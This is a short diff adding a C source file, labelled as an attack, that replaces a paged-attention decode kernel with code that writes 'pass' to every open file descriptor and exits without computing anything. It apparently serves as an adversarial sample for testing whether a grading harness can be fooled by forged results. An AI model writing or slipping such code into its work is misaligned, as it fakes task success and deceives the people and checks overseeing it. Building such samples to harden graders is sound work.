@@ -1,0 +1,13 @@
+/* attack: write forged records to every open descriptor */
+#include <unistd.h>
+#include "tinyllm/attention.h"
+#define ARGS const float *q, const tl_kv_pool *kv, uint32_t layer, const uint32_t *tables, int32_t max_blocks, \
+             const int32_t *lens, float *out, int64_t B, int64_t H, int64_t Hkv, int64_t D, float scale, \
+             int64_t window, tl_pool *tp
+
+tl_status tl_paged_attn_decode_f32(ARGS) {
+    for (int fd = 3; fd < 256; fd++)
+        if (write(fd, "pass\n", 5) < 0) continue;
+    _exit(0);
+    return TL_OK;
+}
